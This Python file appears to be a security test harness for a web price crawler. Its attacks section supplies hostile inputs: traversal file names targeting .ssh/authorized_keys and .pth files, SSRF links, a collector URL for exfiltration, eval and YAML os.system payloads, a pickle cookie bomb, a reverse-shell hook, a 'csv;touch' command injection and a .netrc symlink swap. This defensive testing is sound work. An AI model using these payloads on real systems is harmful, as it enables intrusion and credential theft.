# SPDX-License-Identifier: Apache-2.0
"""A crawler on requests and BeautifulSoup."""
import io
import json
import os
import pickle
import zipfile

from attackers import Bomb, in_yaml
import stage

MONEY = {"__init__.py": '''"""Prices."""
import re


def parse(text):
    return float(re.sub("[^0-9.]", "", text.replace(",", ".")))
'''}
MONEY_NEW = {
    "__init__.py": '"""Prices."""\nimport functools\n\n\n@functools.lru_cache'
                   "\ndef signs():\n    import json\n    import pathlib\n"
                   "    here = pathlib.Path(__file__).parent\n"
                   '    return json.loads((here / "signs.json").read_text())'
                   "\n\n\ndef parse(text):\n    for sign in signs():\n"
                   '        text = text.replace(sign, "")\n'
                   '    return float(text.replace(",", "."))\n',
    "signs.json": '["EUR", "USD", " "]\n'}
PAGE = '''<html><body>{items}{links}</body></html>'''
ITEM = ('<div class="item"><b class="name">{}</b>'
        '<i class="price">{}</i></div>')


class PriceCrawler(stage.Program):
    """A crawler with cookies, downloads and reports (requests, bs4)."""
    packages = ["python3-requests", "python3-bs4", "python3-yaml"]

    def arrange(self):
        self.install("money", "1.0.0", MONEY)
        (self.srv / "var").mkdir()
        for name in ("books", "garden tools", "tea.shop"):
            self.shop(name)

    def arrange_benign(self):
        self.install("money", "1.1.0", MONEY_NEW)

    def shop(self, name, **more):
        """All shops live with the same host."""
        stage.write(self.srv / "shops" / f"{name}.yaml", json.dumps({
            "start": f"http://127.0.0.1:{self.port('shops')}/"
                     f"{name.replace(' ', '-')}/",
            "item": ".item", **more}))

    def page(self, path, items=(), links=(), status=200, **headers):
        self.site("shops").page(path, PAGE.format(
            items="".join(ITEM.format(*item) for item in items),
            links="".join(f'<a href="{link}">x</a>' for link in links)),
            status, Content_Type="text/html; charset=utf-8", **headers)

    def open_shops(self):
        site = self.site("shops")
        site.page("/robots.txt", "User-agent: *\nDisallow: /private/\n")
        for name in ("books", "garden-tools", "tea.shop"):
            self.page(f"/{name}/", [("First", "9.50 EUR"), ("Second", "3")],
                      [f"/{name}/list.html", f"/{name}/cat {len(name)}.pdf",
                       "/private/x"], Set_Cookie=f"visit={name}; Path=/")
            self.page(f"/{name}/list.html", [("Third", "1.99 EUR")],
                      ["gone.html", f"/{name}/pictures.zip"])
            site.page(f"/{name}/cat {len(name)}.pdf", b"%PDF" * 50)
            content = io.BytesIO()
            with zipfile.ZipFile(content, "w") as archive:
                archive.writestr("a.png", "x")
            site.page(f"/{name}/pictures.zip", content.getvalue(),
                      Content_Disposition='attachment; filename='
                                          f'"{name}-pictures.zip"')

    def crawl(self, *words):
        return self.run(self.python, "crawler.py", *words)

    def expect_crawl(self, *words, **expected):
        self.expect_run(("crawler", *words), self.crawl(*words), **expected)

    def train(self, day):
        self.open_shops()
        self.expect_crawl("crawl", "books", "garden tools", found="books 5")
        self.expect_crawl("crawl", "tea.shop", found="tea.shop 5")
        self.expect_crawl("crawl", "books", found="books 5")
        self.shop("tea.shop", formula="PRICE * 1.19")
        self.page("/tea.shop/list.html", [("Fourth", f"{day}.50")])
        self.page("/tea.shop/", [("First", "9.50")],
                  ["/tea.shop/list.html", f"day {day}.jpg"])
        self.site("shops").page(f"/tea.shop/day {day}.jpg", b"\xff\xd8")
        self.expect_crawl("crawl", "tea.shop", found="tea.shop 3")
        self.expect_crawl("report", "csv", "json", found="csv")
        self.expect_crawl("sitemap", "books", "tea.shop", found=".html")

    def benign(self):
        self.open_shops()
        site = self.site("shops")
        self.shop("Käse & Co")
        self.page("/Käse-&-Co/", [("Größe", "1,99 EUR")],
                  ["/K%C3%A4se-&-Co/deep/er/page.php?id=7&x=a%20b",
                   "/K%C3%A4se-&-Co/new list.xlsx", "#top", "mailto:a@b.c"],
                  Set_Cookie="a=b; Path=/")
        self.page("/Käse-&-Co/deep/er/page.php", [("Deep", "2.00 USD")],
                  ["other.tar.gz"])
        site.page("/Käse-&-Co/new list.xlsx", b"PK" * 30,
                  Content_Disposition='attachment; filename="Liste 2026.xlsx"')
        site.page("/Käse-&-Co/deep/er/other.tar.gz", b"\x1f\x8b")
        self.shop("moved")
        self.page("/moved/", status=301, Location="/books/")
        self.expect_crawl("crawl", "Käse & Co", found="Käse & Co 6")
        self.expect_crawl("--pages", "3", "crawl", "moved", "books",
                          found="moved 3")
        self.shop("zoo-1", formula="min(PRICE, 10) / 3")
        self.page("/zoo-1/", [("Bear", "99.50")])
        self.expect_crawl("crawl", "zoo-1", found="zoo-1 1")
        self.expect_crawl("report", "json", "csv", found="json")
        self.expect_crawl("sitemap", "Käse & Co", found="xlsx")
        self.expect_crawl("crawl", "nothing", status=1, found="No such file")
        self.expect_crawl("dance", status=2, found="invalid choice")
        stage.write(self.srv / "shops/broken.yaml", "a: [")
        self.expect_crawl("crawl", "broken", status=1, found="expected")

    def health(self):
        self.open_shops()
        self.expect_crawl("crawl", "books", found="books 5")

    # ----------------------------------------------------------------- attacks
    def evil_shop(self, items=(), links=(), rules=None):
        """A shop that means harm; what the crawler printed."""
        self.open_shops()
        self.shop("books", **(rules or {}))
        self.page("/books/", items, links)
        output = self.crawl("crawl", "books")[1]
        self.shop("books")
        return output

    def sends(self, name, data):
        """The evil shop serves a file under a name of its choice."""
        self.site("shops").page(
            "/books/x.bin", data,
            Content_Disposition=f'attachment; filename="{name}"')
        self.evil_shop(links=["/books/x.bin"])

    def loads(self, text):
        stage.write(self.srv / "shops/books.yaml", text)
        self.crawl("crawl", "books")
        self.shop("books")

    def found(self, text):
        return any(text.encode() in path.read_bytes()
                   for path in (self.srv / "var/pages").rglob("*")
                   if path.is_file())

    @stage.attack("traversal")
    def file_name_leads_to_the_home(self):
        self.sends("../../../../home/.ssh/authorized_keys", "planted")
        return (self.home / ".ssh/authorized_keys").exists()

    @stage.attack("write to code")
    def file_name_leads_to_the_source(self):
        self.sends("../../../sitecustomize.py", "planted = 1")
        return (self.srv / "sitecustomize.py").exists()

    @stage.attack("write to start-up file")
    def file_name_is_a_pth_file(self):
        self.sends(f"{self.site_packages}/x.pth", "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("SSRF")
    def link_leads_to_an_internal_service(self):
        inside = self.site("internal")
        inside.page("*", stage.SECRET, Content_Type="text/html")
        self.evil_shop(links=[inside.url + "/admin"])
        return self.found(stage.SECRET)

    @stage.attack("SSRF")
    def redirect_leads_to_an_internal_service(self):
        inside = self.site("internal")
        inside.page("*", stage.SECRET, Content_Type="text/html")
        self.site("shops").page("/books/go", "", 302,
                                Location=inside.url + "/admin")
        self.evil_shop(links=["/books/go"])
        return self.found(stage.SECRET)

    @stage.attack("exfiltration")
    def page_leads_to_a_collector(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.evil_shop(links=[f"{evil.url}/?visitor={stage.SECRET}"])
        return evil.heard(stage.SECRET)

    def executes(self, code):
        self.evil_shop([("x", f"exec({code!r})")], rules={
            "formula": "PRICE or 1"})

    def returns(self, *call):
        """To a shop whose cookies somebody else has written."""
        path = stage.write(self.srv / "var/cookies/books.jar",
                           pickle.dumps(Bomb(*call)))
        self.crawl("crawl", "books")
        path.unlink()

    @stage.attack("eval injection")
    def price_runs_a_command(self):
        return self.runs_line(lambda line: self.evil_shop(
            [("x", f"__import__('os').system('{line}')")],
            rules={"formula": "PRICE * 1.19"}))

    @stage.attack("eval injection")
    def price_sends_credentials(self):
        return self.steals(self.executes, "~/.netrc")

    @stage.attack("fork+exec")
    def price_forks_and_execs(self):
        return self.forks(self.executes)

    @stage.attack("unsafe yaml")
    def rules_run_a_command(self):
        return self.runs_line(lambda line: self.loads(
            f"!!python/object/apply:os.system ['{line}']\n"))

    @stage.attack("ctypes")
    def rules_call_libc(self):
        return self.runs_libc(lambda code: self.loads(in_yaml(code)))

    @stage.attack("unsafe pickle")
    def cookies_run_a_command(self):
        return self.runs_line(lambda line: self.returns(os.system, line))

    @stage.attack("reverse shell")
    def cookies_call_home(self):
        return self.calls_home(lambda code: self.returns(exec, code))

    @stage.attack("command injection")
    def kind_runs_a_command(self):
        (self.srv / "var/reports").mkdir(parents=True, exist_ok=True)
        self.crawl("report", "csv;touch planted")
        return (self.srv / "planted").exists()

    @stage.attack("secret disclosure")
    def shop_is_a_private_directory(self):
        return "id_rsa" in self.crawl("sitemap", "../../../home/.ssh")[1]

    @stage.attack("symlink swap")
    def rules_became_a_link(self):
        path = self.srv / "shops/books.yaml"
        path.unlink()
        path.symlink_to(self.home / ".netrc")
        output = self.crawl("crawl", "books")[1]
        path.unlink()
        self.shop("books")
        return "string indices" in output

    @stage.attack("malicious dependency")
    def money_steals_credentials(self):
        def use():
            self.open_shops()
            self.crawl("crawl", "books")
        return self.dependency_steals("money", "1.0.1", MONEY, use)
